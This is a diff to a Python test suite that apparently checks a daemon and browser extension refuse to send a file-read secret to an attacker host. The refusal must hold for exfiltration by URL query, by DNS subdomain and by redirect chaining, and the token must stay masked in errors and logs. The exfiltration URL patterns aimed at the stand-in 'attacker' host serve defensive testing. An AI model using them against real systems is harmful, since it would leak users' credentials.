@@ -9,10 +9,12 @@ refused.
 
 from __future__ import annotations
 
+import asyncio
 import base64
 import gzip
 import json
 import re
+import time
 from collections.abc import AsyncIterator
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -141,7 +143,9 @@ async def test_a_secret_read_from_a_file_cannot_leave_in_a_url(daemon: RunningDa
     assert read["ok"] and any(TOKEN in c["text"] for c in read["chunks"])
     for url in exfil_urls(attacker.url, TOKEN):
         refused(await fetch(daemon, url))
-    refused(await fetch(daemon, f"http://{TOKEN.lower()}.attacker.invalid/x"))  # DNS is an exit too
+    dns = await fetch(daemon, f"http://{TOKEN.lower()}.attacker.invalid/x")  # DNS is an exit too
+    refused(dns)
+    assert TOKEN.lower() not in dns["error"]["message"]  # the message masks it as well
     assert attacker.hits == []  # nothing reached the attacker
 
     st = await status(daemon)
@@ -304,9 +308,21 @@ async def test_a_site_open_in_the_users_browser_may_receive_it(tmp_path: Path, s
         assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
         refused(await fetch(d, f"{attacker.url}/collect?k={TOKEN}"))  # the site is not open: refused
         assert attacker.hits == []
+        # ... and the refusal shows in the extension's popup log (chrome.storage.session "recent")
+        worker = await stack.worker()
+        deadline = time.monotonic() + 10
+        logged: list[dict[str, Any]] = []
+        while time.monotonic() < deadline:
+            recent = await worker.evaluate("async () => (await chrome.storage.session.get('recent')).recent || []")
+            logged = [r for r in recent if r.get("code") == "exit_refused"]
+            if logged:
+                break
+            await asyncio.sleep(0.1)
+        assert logged and "127.0.0.1" in logged[0]["what"] and logged[0]["ok"] is False, recent
+        assert TOKEN not in json.dumps(recent)
 
         await stack.open_tab(f"{attacker.url}/home")  # the user opens that site in their browser
-        assert attacker.hits == ["/home"]
+        assert "/home" in attacker.hits and not any(TOKEN in h for h in attacker.hits)
         # open, but asked to pass it on to a site that is not open: refused
         refused(await fetch(d, f"{attacker.url}/go?next=" + quote(f"{site.url}/c?k={TOKEN}", safe="")))
         body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
